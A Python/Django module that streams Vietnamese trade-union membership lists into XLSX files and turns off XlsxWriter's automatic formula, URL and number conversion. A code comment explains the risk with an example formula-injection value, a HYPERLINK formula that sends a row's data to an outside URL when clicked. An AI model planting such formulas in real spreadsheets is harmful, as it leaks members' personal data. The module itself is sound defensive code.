"""Spreadsheet exports of the scoped, filtered lists (XlsxWriter in constant-memory mode, so a
district's tens of thousands of rows stream without holding the workbook in memory)."""

import tempfile

import xlsxwriter
from django.http import FileResponse
from django.utils import timezone
from django.utils.translation import gettext as _

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What users type stays text in every export. XlsxWriter's write() would otherwise turn a
# string starting with "=" into a live formula (a member whose "chức vụ" is
# =HYPERLINK("http://…?x="&B2,"Bấm") leaks the row to whoever opens the file and clicks) and a
# string that looks like a URL into a hyperlink. Every workbook the application writes is
# opened through workbook() below; thidua/core/tests/test_exports_text.py checks no module
# opens one another way.
TEXT_ONLY = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def workbook(target, options: dict | None = None) -> xlsxwriter.Workbook:
    """An XlsxWriter workbook that writes every string as a string (see TEXT_ONLY)."""
    return xlsxwriter.Workbook(target, {**(options or {}), **TEXT_ONLY})


def xlsx_response(filename: str, headers: list[str], rows, widths: list[int] | None = None) -> FileResponse:
    # The response closes the file once streamed; a context manager would close it too early.
    handle = tempfile.TemporaryFile()  # noqa: SIM115
    book = workbook(handle, {"constant_memory": True, "tmpdir": tempfile.gettempdir()})
    sheet = book.add_worksheet()
    bold = book.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1})
    for col, header in enumerate(headers):
        sheet.write(0, col, header, bold)
        sheet.set_column(col, col, (widths or [])[col] if widths and col < len(widths) else 18)
    for r, row in enumerate(rows, start=1):
        for col, value in enumerate(row):
            sheet.write(r, col, value if value is not None else "")
    book.close()
    handle.seek(0)
    return FileResponse(handle, as_attachment=True, filename=filename, content_type=XLSX)


def members_xlsx_response(members, *, rating_year: int) -> FileResponse:
    headers = [
        _("STT"),
        _("Họ và tên"),
        _("Giới tính"),
        _("Năm sinh"),
        _("Mã đơn vị"),
        _("Đơn vị"),
        _("Chức vụ, công việc"),
        _("CNLĐ trực tiếp"),
        _("Cán bộ công đoàn"),
        _("Ngày vào công đoàn"),
        _("Số thẻ đoàn viên"),
        _("Xếp loại năm %(year)s") % {"year": rating_year},
    ]
    yes, no = _("Có"), _("Không")

    def rows():
        for n, m in enumerate(members.iterator(chunk_size=2000), start=1):
            yield [
                n,
                m.full_name,
                m.get_gender_display(),
                m.birth_year,
                m.unit.code,
                m.unit.name,
                m.position,
                yes if m.is_direct_worker else no,
                m.get_officer_type_display(),
                m.joined_on.strftime("%d/%m/%Y") if m.joined_on else "",
                m.card_number or "",
                getattr(m, "rating_name", "") or "",
            ]

    stamp = timezone.localtime().strftime("%Y%m%d-%H%M")
    return xlsx_response(f"doan-vien-{stamp}.xlsx", headers, rows(), [6, 28, 10, 9, 14, 36, 22, 14, 18, 16, 16, 20])
